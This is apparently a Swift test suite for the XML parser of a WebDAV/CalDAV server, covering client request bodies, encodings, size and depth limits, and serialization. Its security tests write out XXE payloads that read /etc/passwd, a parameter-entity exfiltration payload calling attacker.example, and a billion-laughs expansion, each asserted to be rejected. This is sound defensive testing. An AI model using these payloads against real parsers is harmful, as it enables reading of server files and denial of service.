import Testing

@testable import DAVCore

private func parse(_ xml: String, limits: XMLLimits = XMLLimits()) throws(XMLError) -> XMLElement {
    try XMLReader.parse(Array(xml.utf8), limits: limits)
}

/// The error parsing `bytes` throws, or `nil` when they parse.
private func failure(_ bytes: [UInt8], limits: XMLLimits = XMLLimits()) -> XMLError? {
    do {
        _ = try XMLReader.parse(bytes, limits: limits)
        return nil
    } catch {
        return error
    }
}

private func failure(_ xml: String, limits: XMLLimits = XMLLimits()) -> XMLError? {
    failure(Array(xml.utf8), limits: limits)
}

private func isMalformed(_ error: XMLError?) -> Bool {
    if case .malformed = error { true } else { false }
}

@Suite struct XMLReaderClientBodyTests {
    @Test func davx5PropfindWithPerElementNamespace() throws {
        let root = try parse(
            #"<?xml version='1.0' encoding='UTF-8' ?><propfind xmlns="DAV:" xmlns:CAL="urn:ietf:params:xml:ns:caldav"><prop><resourcetype /><n0:calendar-color xmlns:n0="http://apple.com/ns/ical/" /></prop></propfind>"#
        )
        #expect(root.name == .dav("propfind"))
        #expect(root.attributes.isEmpty, "xmlns declarations are not attributes")
        let prop = try #require(root.child(.dav("prop")))
        #expect(prop.children.map(\.name) == [.dav("resourcetype"), .appleICal("calendar-color")])
    }

    @Test func applePropfindDeclaresNamespacesPerElement() throws {
        let root = try parse(
            """
            <?xml version="1.0" encoding="UTF-8"?>
            <A:propfind xmlns:A="DAV:">
              <A:prop>
                <B:calendar-home-set xmlns:B="urn:ietf:params:xml:ns:caldav"/>
                <C:getctag xmlns:C="http://calendarserver.org/ns/"/>
                <A:current-user-principal/>
              </A:prop>
            </A:propfind>
            """)
        let prop = try #require(root.child(.dav("prop")))
        #expect(
            prop.children.map(\.name)
                == [.caldav("calendar-home-set"), .calendarServer("getctag"), .dav("current-user-principal")])
    }

    @Test func thunderbirdSingleQuotedNamespaces() throws {
        let root = try parse(
            "<D:propfind xmlns:D='DAV:' xmlns:C='urn:ietf:params:xml:ns:caldav'><D:prop><C:supported-calendar-component-set/></D:prop></D:propfind>"
        )
        #expect(root.child(.dav("prop"))?.children.first?.name == .caldav("supported-calendar-component-set"))
    }

    @Test func calendarTimezoneKeepsCarriageReturns() throws {
        let root = try parse(
            """
            <D:propertyupdate xmlns:D="DAV:" xmlns:C="urn:ietf:params:xml:ns:caldav"><D:set><D:prop>\
            <C:calendar-timezone>BEGIN:VCALENDAR&#13;
            VERSION:2.0&#13;
            END:VCALENDAR&#13;
            </C:calendar-timezone></D:prop></D:set></D:propertyupdate>
            """)
        let timezone = root.child(.dav("set"))?.child(.dav("prop"))?.child(.caldav("calendar-timezone"))
        #expect(timezone?.text == "BEGIN:VCALENDAR\r\nVERSION:2.0\r\nEND:VCALENDAR\r\n")
    }

    @Test func declaredLatin1EncodingIsDecoded() throws {
        let bytes = Array(#"<?xml version="1.0" encoding="ISO-8859-1"?><a>caf"#.utf8) + [0xE9] + Array("</a>".utf8)
        #expect(try XMLReader.parse(bytes).text == "café")
    }

    /// Encodings beyond Latin-1 and UTF-16 go through libxml2's converters (ICU in Debian's
    /// build, linked into the release binary by scripts/build-release.sh).
    @Test func declaredLegacyEncodingsAreConverted() throws {
        let windows1252 = Array(#"<?xml version="1.0" encoding="windows-1252"?><a>caf"#.utf8) + [0xE9, 0x20, 0x80]
            + Array("</a>".utf8)
        #expect(try XMLReader.parse(windows1252).text == "café €")
        let eucJP = Array(#"<?xml version="1.0" encoding="EUC-JP"?><a>"#.utf8) + [0xC6, 0xFC, 0xCB, 0xDC]
            + Array("</a>".utf8)
        #expect(try XMLReader.parse(eucJP).text == "日本")
    }

    @Test func concurrentParsesAreIndependent() async throws {
        let texts = try await withThrowingTaskGroup(of: String.self) { group in
            for i in 0..<64 {
                group.addTask {
                    if i.isMultiple(of: 2) { _ = failure("<a><b></a>") }
                    return try parse("<a>\(i)</a>").text
                }
            }
            return try await group.reduce(into: Set<String>()) { $0.insert($1) }
        }
        #expect(texts == Set((0..<64).map(String.init)))
    }
}

@Suite struct XMLReaderTreeTests {
    @Test func namespacesAttributesAndText() throws {
        let root = try parse(
            #"<a xmlns="urn:default" xmlns:p="urn:p" id="1" p:kind='x &amp; y' xml:lang="en"><p:b>one</p:b><c xmlns="">two</c></a>"#
        )
        #expect(root.name == QName("urn:default", "a"))
        #expect(
            root.attributes == [
                QName("", "id"): "1",
                QName("urn:p", "kind"): "x & y",
                QName("http://www.w3.org/XML/1998/namespace", "lang"): "en",
            ])
        #expect(root.attribute("id") == "1")
        #expect(root.children.map(\.name) == [QName("urn:p", "b"), QName("", "c")])
        #expect(root.children.map(\.text) == ["one", "two"])
    }

    @Test func textIsKeptExactlyWithCDATAAndReferencesResolved() throws {
        let root = try parse("<a>\n  x &lt; &#x41;<![CDATA[<raw> & ]]><!-- gone --><?pi gone?><b/> tail </a>")
        #expect(root.text == "\n  x < A<raw> &  tail ")
        #expect(root.children.map(\.name) == [QName("", "b")])
    }

    @Test func unprefixedElementWithoutDefaultNamespaceHasEmptyNamespace() throws {
        #expect(try parse("<plain/>").name == QName("", "plain"))
    }
}

@Suite struct XMLReaderSecurityTests {
    @Test func externalEntityIsRejectedWithoutReadingTheFile() {
        let error = failure(#"<!DOCTYPE foo [<!ENTITY xxe SYSTEM "file:///etc/passwd">]><foo>&xxe;</foo>"#)
        #expect(error == .doctypeNotAllowed)
        let message = error.map(String.init(describing:)) ?? ""
        #expect(message.contains("root:") == false)
        let declared = #"<?xml version="1.0"?><!-- x --><!DOCTYPE foo [<!ENTITY xxe SYSTEM "file:///etc/passwd">]><foo>&xxe;</foo>"#
        #expect(failure(declared) == .doctypeNotAllowed)
    }

    @Test func parameterEntityExfiltrationIsRejected() {
        let xml = """
            <!DOCTYPE foo [<!ENTITY % file SYSTEM "file:///etc/hostname">\
            <!ENTITY % dtd SYSTEM "http://attacker.example/evil.dtd">%dtd;]><foo/>
            """
        #expect(failure(xml) == .doctypeNotAllowed)
    }

    @Test func billionLaughsIsRejected() {
        var declarations = #"<!ENTITY lol0 "lol">"#
        for level in 1...9 {
            let previous = String(repeating: "&lol\(level - 1);", count: 10)
            declarations += #"<!ENTITY lol\#(level) "\#(previous)">"#
        }
        let xml = "<?xml version=\"1.0\"?><!DOCTYPE lolz [\(declarations)]><lolz>&lol9;</lolz>"
        #expect(failure(xml) == .doctypeNotAllowed)
    }

    @Test func externalDTDReferenceIsRejected() {
        #expect(failure(#"<!DOCTYPE propfind SYSTEM "http://attacker.example/x.dtd"><propfind/>"#) == .doctypeNotAllowed)
        #expect(failure(#"<!DOCTYPE propfind PUBLIC "-//x//y" "file:///etc/passwd"><propfind/>"#) == .doctypeNotAllowed)
    }

    @Test func bareDoctypeIsRejected() {
        #expect(failure("<!DOCTYPE a><a/>") == .doctypeNotAllowed)
    }

    @Test func undeclaredEntityIsNotExpanded() {
        let error = failure("<foo>&xxe;</foo>")
        #expect(isMalformed(error))
        #expect(error?.description.contains("xxe") == true)
    }

    @Test func sizeIsCheckedBeforeParsing() {
        let limits = XMLLimits(maxBytes: 16)
        #expect(failure("<a>0123456789</a>", limits: limits) == .tooLarge(limit: 16))
        // Even garbage over the limit is reported as too large: libxml2 never saw it.
        #expect(failure([UInt8](repeating: 0xFF, count: 17), limits: limits) == .tooLarge(limit: 16))
        #expect(failure("<a>012345678</a>", limits: limits) == nil)
    }

    @Test func emptyAndBlankBodies() {
        #expect(failure([]) == .empty)
        #expect(failure(" \r\n\t ") == .empty)
    }

    @Test func depthIsCapped() {
        let limits = XMLLimits(maxDepth: 3)
        #expect(failure("<a><b><c/></b></a>", limits: limits) == nil)
        #expect(failure("<a><b><c><d/></c></b></a>", limits: limits) == .tooDeep(limit: 3))
    }

    @Test func libxml2DepthCapHoldsAboveOurs() {
        func nested(_ depth: Int) -> String {
            String(repeating: "<a>", count: depth) + String(repeating: "</a>", count: depth)
        }
        #expect(failure(nested(100)) == .tooDeep(limit: 64))
        // Without XML_PARSE_HUGE libxml2 stops at 256 levels, whatever our limit says.
        #expect(isMalformed(failure(nested(10_000), limits: XMLLimits(maxDepth: 100_000))))
    }

    @Test func elementCountIsCapped() {
        let limits = XMLLimits(maxElements: 3)
        #expect(failure("<a><b/><c/></a>", limits: limits) == nil)
        #expect(failure("<a><b/><c/><d/></a>", limits: limits) == .tooManyElements(limit: 3))
        let wide = "<a>" + String(repeating: "<b/>", count: 100_000) + "</a>"
        #expect(failure(wide) == .tooManyElements(limit: 100_000))
    }

    @Test(arguments: [
        "<a><b></a>",
        "<a>",
        "<a:b/>",
        "<a xmlns:p='urn:p'><q:b/></a>",
        "<a q:x='1'/>",
        "<a/><b/>",
        "not xml at all",
        "<a>&#0;</a>",
        "<a x='1' x='2'/>",
        "<?xml version='1.0' encoding='bogus'?><a/>",
    ])
    func malformedInputIsReported(_ xml: String) {
        #expect(isMalformed(failure(xml)))
    }

    @Test func garbageAndInvalidUTF8AreMalformed() {
        #expect(isMalformed(failure([0xFF, 0xFE, 0x00, 0x41, 0x00])))
        #expect(isMalformed(failure([0x00, 0x00, 0x00, 0x00])))
        #expect(isMalformed(failure(Array("<a>".utf8) + [0xC3, 0x28, 0xFF] + Array("</a>".utf8))))
        // Bytes an iconv decoder rejects take libxml2's context-free error path.
        let shiftJIS = Array(#"<?xml version="1.0" encoding="Shift_JIS"?><a>"#.utf8) + [0x82, 0xFF] + Array("</a>".utf8)
        #expect(isMalformed(failure(shiftJIS)))
    }

    @Test func malformedMessageNamesTheLine() {
        guard case .malformed(let message) = failure("<a>\n<b>\n</a>") else {
            Issue.record("expected .malformed")
            return
        }
        #expect(message.contains("line"))
        #expect(!message.contains("\n"))
    }
}

@Suite struct XMLInnerXMLTests {
    @Test func propContentRoundTrips() throws {
        let prop = try parse(#"<D:prop xmlns:D="DAV:"><x:foo xmlns:x="urn:a">hi &amp; <x:b/></x:foo></D:prop>"#)
        let inner = prop.innerXML
        #expect(inner == #"<n0:foo xmlns:n0="urn:a">hi &amp; <n0:b/></n0:foo>"#)
        let reparsed = try parse("<wrapper xmlns=\"DAV:\">\(inner)</wrapper>")
        #expect(reparsed.children == prop.children)
    }

    @Test func textOnlyContentIsEscaped() throws {
        let element = XMLElement(name: .dav("displayname"), text: "a < b & c > d\r\n")
        #expect(element.innerXML == "a &lt; b &amp; c &gt; d&#13;\n")
        #expect(try parse("<x>\(element.innerXML)</x>").text == element.text)
    }

    @Test func unqualifiedChildUndeclaresTheDefaultNamespace() throws {
        let prop = try parse(#"<prop xmlns="DAV:"><foo xmlns=""><bar/></foo><D:x xmlns:D="DAV:"><y xmlns=""/></D:x></prop>"#)
        let inner = prop.innerXML
        // Embedded under a default namespace, the unqualified elements must stay unqualified.
        let reparsed = try parse(#"<prop xmlns="urn:elsewhere">\#(inner)</prop>"#)
        #expect(reparsed.children == prop.children)
        #expect(reparsed.children.first?.children.first?.name == QName("", "bar"))
    }

    @Test func attributesAndMixedContentRoundTrip() throws {
        let prop = try parse(
            """
            <D:prop xmlns:D="DAV:" xmlns:p="urn:p"><p:item plain="a&quot;b&#10;c&#9;d&#13;" p:ns="v" xml:lang="en">\
            text<p:child/>more<![CDATA[ & ]]></p:item><p:second xmlns:p="urn:other"/></D:prop>
            """)
        let reparsed = try parse("<r>\(prop.innerXML)</r>")
        #expect(reparsed.children == prop.children)
        let item = try #require(reparsed.children.first)
        #expect(item.attribute("plain") == "a\"b\nc\td\r")
        // Mixed content comes back as the text first, then the children.
        #expect(item.text == "textmore & ")
        #expect(reparsed.children.last?.name == QName("urn:other", "second"))
    }

    @Test func serializationIsDeterministic() throws {
        let element = XMLElement(
            name: QName("urn:a", "e"),
            attributes: [QName("", "z"): "1", QName("", "a"): "2", QName("urn:b", "m"): "3"])
        let wrapper = XMLElement(name: .dav("prop"), children: [element])
        #expect(wrapper.innerXML == #"<n0:e xmlns:n0="urn:a" xmlns:n1="urn:b" a="2" z="1" n1:m="3"/>"#)
    }

    @Test func emptyContentIsEmpty() {
        #expect(XMLElement(name: .dav("prop")).innerXML == "")
    }
}
